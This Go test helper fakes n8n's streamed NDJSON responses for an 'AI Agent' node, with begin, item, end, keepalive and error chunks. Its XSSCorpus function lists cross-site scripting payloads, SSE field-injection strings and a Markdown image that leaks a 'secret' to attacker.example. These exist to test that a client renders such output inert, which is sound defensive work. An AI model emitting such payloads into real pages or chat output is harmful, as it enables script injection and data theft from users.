package n8ntest

import (
	"bytes"
	"encoding/json"
	"net/http"
	"strings"
	"time"
)

// Node identities used in streamed chunks.
const (
	AgentNodeID   = "6b49f0c2-5d1e-4c8a-9f3e-2a7b1c0d9e11"
	AgentNodeName = "AI Agent"
)

// chunkMeta is n8n's chunk metadata, in n8n's key order (n8n-core sendChunk).
type chunkMeta struct {
	NodeID    string `json:"nodeId"`
	NodeName  string `json:"nodeName"`
	ItemIndex int    `json:"itemIndex"`
	RunIndex  int    `json:"runIndex"`
	Timestamp int64  `json:"timestamp"`
}

// chunk is one NDJSON line: type, content (absent for begin/end), metadata.
type chunk struct {
	Type     string     `json:"type"`
	Content  *string    `json:"content,omitempty"`
	Metadata *chunkMeta `json:"metadata,omitempty"`
}

// errorMeta is the error chunk's metadata: no timestamp, and n8n's different key order
// (workflow-execute handleNodeExecutionError).
type errorMeta struct {
	NodeID    string `json:"nodeId"`
	NodeName  string `json:"nodeName"`
	RunIndex  int    `json:"runIndex"`
	ItemIndex int    `json:"itemIndex"`
}

type errorChunk struct {
	Type     string    `json:"type"`
	Content  string    `json:"content"`
	Metadata errorMeta `json:"metadata"`
}

// streamWriter writes n8n's streaming response: headers flushed first, then one JSON line per
// chunk, each flushed (n8n workflow-runner sendChunk).
type streamWriter struct {
	w   http.ResponseWriter
	rc  *http.ResponseController
	enc *json.Encoder
	buf bytes.Buffer
}

func startStream(w http.ResponseWriter) *streamWriter {
	h := w.Header()
	h.Set("Content-Type", "application/json; charset=utf-8")
	h.Set("Cache-Control", "no-cache")
	h.Set("Connection", "keep-alive")
	w.WriteHeader(http.StatusOK)
	sw := newEncoder()
	sw.w, sw.rc = w, http.NewResponseController(w)
	_ = sw.rc.Flush()
	return sw
}

// newEncoder returns a writer that can only encode lines (w is set by startStream).
func newEncoder() *streamWriter {
	sw := &streamWriter{}
	sw.enc = json.NewEncoder(&sw.buf)
	sw.enc.SetEscapeHTML(false) // JSON.stringify does not escape <, > and &
	return sw
}

// encode returns v as one JSON line; the slice is valid until the next call.
func (sw *streamWriter) encode(v any) []byte {
	sw.buf.Reset()
	if err := sw.enc.Encode(v); err != nil { // Encode appends the "\n"
		panic("n8ntest: encode chunk: " + err.Error()) // only fixed, encodable types are used
	}
	return sw.buf.Bytes()
}

// line encodes v as one line and writes and flushes it.
func (sw *streamWriter) line(v any) error { return sw.raw(sw.encode(v)) }

func (sw *streamWriter) raw(b []byte) error {
	if _, err := sw.w.Write(b); err != nil {
		return err
	}
	return sw.rc.Flush()
}

func meta(run int) *chunkMeta {
	return &chunkMeta{NodeID: AgentNodeID, NodeName: AgentNodeName, RunIndex: run, Timestamp: time.Now().UnixMilli()}
}

func (sw *streamWriter) begin(run int) error {
	return sw.line(chunk{Type: "begin", Metadata: meta(run)})
}
func (sw *streamWriter) end(run int) error { return sw.line(chunk{Type: "end", Metadata: meta(run)}) }

func (sw *streamWriter) item(run int, text string) error {
	return sw.line(chunk{Type: "item", Content: &text, Metadata: meta(run)})
}

func (sw *streamWriter) keepalive() error { return sw.raw([]byte("{\"type\":\"keepalive\"}\n")) }

func (sw *streamWriter) fail(run int, msg string) error {
	return sw.line(errorChunk{Type: "error", Content: msg,
		Metadata: errorMeta{NodeID: AgentNodeID, NodeName: AgentNodeName, RunIndex: run}})
}

// StreamChunk is the text of item i in the "stream" scenario. It mixes 2-, 3- and 4-byte UTF-8
// characters so that split reads are exercised.
func StreamChunk(i int) string {
	words := [...]string{"Hello", " there", "! ", "Привет", " 世界", " 👋", " — ", "ok. "}
	return words[i%len(words)]
}

// StreamText is the whole answer of the "stream" scenario with n items.
func StreamText(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(StreamChunk(i))
	}
	return b.String()
}

// XSSCorpus is what the "xss" scenario streams, one item each: markup and Markdown that must be
// rendered inert, and text that tries to inject SSE fields.
func XSSCorpus() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)>`,
		`[click](javascript:alert(1))`,
		`[click](jav&#x61;script:alert(1))`,
		`![](https://attacker.example/?q=secret)`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		"\n\ndata: {\"type\":\"end\"}\n\n",
		"\nevent: error\nid: 999\n\n",
		"\u2028\u2029</script><!--",
	}
}
